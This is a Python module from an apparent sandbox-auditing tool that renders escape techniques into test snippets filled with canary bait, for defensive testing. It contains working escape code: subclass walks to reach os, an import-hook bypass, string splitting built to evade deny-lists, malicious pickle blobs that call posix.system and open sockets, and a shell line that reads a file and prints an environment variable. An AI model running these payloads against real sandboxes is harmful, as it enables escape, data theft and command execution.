"""Rendering a technique into the exact snippet submitted: the bait filled in, the prelude added.

Contract: ``render(technique, bait, canary_dir=..., mem_bytes=..., disk_bytes=...)`` fills the
technique's ``string.Template`` with the per-technique bait (canary path and dir, marker, leak
path, env var name, decoy and auditor pids, listener ports, a shell line, the breach marker, the
memory and disk limits, pickle and marshal payloads), prepends ``PRELUDE`` when the snippet calls
one of its helpers (``uses_prelude``) and ends with a comment carrying the bait's marker. A
template naming an unknown placeholder raises as ``string.Template.substitute`` does. Pure but
for reading ``os.getpid()``; ``render`` is how ``retool.sandbox.audit`` shows every snippet it sends.
"""

from __future__ import annotations

import os
import shlex
import string

from retool.sandbox.audit.bait import Bait
from retool.sandbox.audit.technique import Technique

__all__ = ["PRELUDE", "render", "uses_prelude"]

# Helpers prepended to a snippet that calls any of them. Placeholders ($canary, ...) are filled
# per technique by ``render``. It avoids the words regex deny-lists look for on purpose.
PRELUDE = r'''
def _bi():
    b = __builtins__
    return b if isinstance(b, dict) else vars(b)

def _classes():
    seen, todo = {}, [().__class__.__base__]
    while todo:
        c = todo.pop()
        if id(c) in seen:
            continue
        seen[id(c)] = c
        try:
            todo.extend(type.__subclasses__(c))
        except BaseException:
            pass
    return list(seen.values())

def _os():
    for get in (lambda: _bi()['__imp' 'ort__']('o' 's'),
                lambda: [c for c in _classes() if c.__name__ == '_wrap_close'][0].__init__.__globals__,
                lambda: [c for c in _classes() if c.__name__ == 'BuiltinImporter'][0].load_module('posix')):
        try:
            m = get()
            return m if isinstance(m, dict) else vars(m)
        except BaseException:
            pass
    raise RuntimeError('no os-like module reachable')

def _unguard():
    # swap a guarded import hook for importlib's own, found through a subclass walk
    BG = [c for c in _classes() if c.__name__ == 'ModuleSpec'][0].__init__.__globals__
    _bi()['__imp' 'ort__'] = BG['__imp' 'ort__']
    return BG['__imp' 'ort__']

def _imp(name):
    try:
        return _bi()['__imp' 'ort__'](name)
    except BaseException:
        return _unguard()(name)

def _sleep(s):
    try:
        _imp('time').sleep(s)
    except BaseException:
        for _ in range(int(s * 2e7)):
            pass

def _read(path, n=65536):
    try:
        with open(path, 'rb') as f:
            return f.read(n)
    except BaseException:
        O = _os()
        fd = O['open'](path, O['O_RDONLY'])
        try:
            return O['read'](fd, n)
        finally:
            O['close'](fd)

def _find(d):
    for v in list(d.values()):
        try:
            n = getattr(v, '__name__', None)
            if n in ('os', 'posix') and callable(getattr(v, 'system', None)):
                return vars(v)
            if n == 'sys' and isinstance(getattr(v, 'modules', None), dict):
                return vars(v.modules.get('os') or v.modules['posix'])
        except BaseException:
            pass
    return None

def _connect(S, port, kind=1):
    s = S.socket(2, kind)  # AF_INET; bytes host: no idna codec needed
    s.settimeout(1)
    s.connect((b'127.0.0.1', port))
    s.sendall($marker.encode())
    return s

def _fx(G, tag='fx'):
    R = []
    def t(label, f):
        try:
            R.append((label, f()))
        except BaseException as e:
            R.append((label, type(e).__name__))
    t('read', lambda: G['read'](G['open']($canary, G['O_RDONLY']), 4096))
    t('write', lambda: G['write'](G['open']($canary, G['O_WRONLY'] | G['O_APPEND']), b'PWNED'))
    t('create', lambda: G['open']($leak_path, G['O_WRONLY'] | G['O_CREAT'], 0o600))
    t('environ', lambda: str(G['environ']))
    t('signal', lambda: G['kill']($decoy_pid, 10))
    t('system', lambda: G['system']($shell))
    B = G.get('__builtins__') or _bi()
    B = B if isinstance(B, dict) else vars(B)
    t('connect', lambda: _connect(B['__imp' 'ort__']('sock' 'et'), $port))
    print(tag, R)
'''

_HELPER_CALL = ("_fx(", "_os(", "_imp(", "_unguard(", "_sleep(", "_read(", "_find(", "_classes(", "_bi(", "_connect(")


def uses_prelude(code: str) -> bool:
    """Whether a snippet calls a prelude helper (and so gets the prelude prepended)."""
    return any(call in code for call in _HELPER_CALL)


def _pickle_blobs(shell: str, port: int) -> tuple[bytes, bytes]:
    # protocol-0 GLOBAL + REDUCE: unpickling calls posix.system / socket.create_connection
    system = b"cposix\nsystem\n(V" + shell.encode() + b"\ntR."
    connect = b"csocket\ncreate_connection\n((C\x09127.0.0.1I%d\ntI1\ntR." % port  # bytes host: no idna
    return system, connect


def render(technique: Technique, bait: Bait, *, canary_dir: str, mem_bytes: int, disk_bytes: int) -> str:
    """The exact snippet submitted for ``technique`` with ``bait`` (prelude added when used)."""
    shell = f"cat {shlex.quote(bait.canary_path)}; printenv {bait.env_name}; : {bait.marker}"
    values = {
        "canary": repr(bait.canary_path), "canary_dir": repr(canary_dir), "marker": repr(bait.marker),
        "leak_path": repr(f"/tmp/{bait.marker}"), "env_name": repr(bait.env_name),
        "decoy_pid": str(bait.decoy.pid if bait.decoy else 0), "auditor_pid": str(os.getpid()),
        "port": str(bait.tcp_port), "udp_port": str(bait.udp_port), "shell": repr(shell),
        "breach": f"{bait.marker!r} + '-' + 'HCAERB'[::-1]", "mem_bytes": str(mem_bytes),
        "disk_bytes": str(disk_bytes),
    }
    prelude = string.Template(PRELUDE).substitute(values)
    system, connect = _pickle_blobs(shell, bait.tcp_port)
    marshal_src = prelude + "\n_fx(vars(_bi()['__imp' 'ort__']('o' 's')), 'marshal')\n"
    import marshal  # noqa: PLC0415 (only the auditor's interpreter runs this)

    values |= {
        "pickle_system": repr(system), "pickle_connect": repr(connect),
        "marshal_hex": repr(marshal.dumps(compile(marshal_src, "<audit>", "exec")).hex()),
    }
    body = string.Template(technique.code).substitute(values)
    code = (prelude + "\n" + body) if uses_prelude(body) else body
    return code + f"\n# {bait.marker}\n"
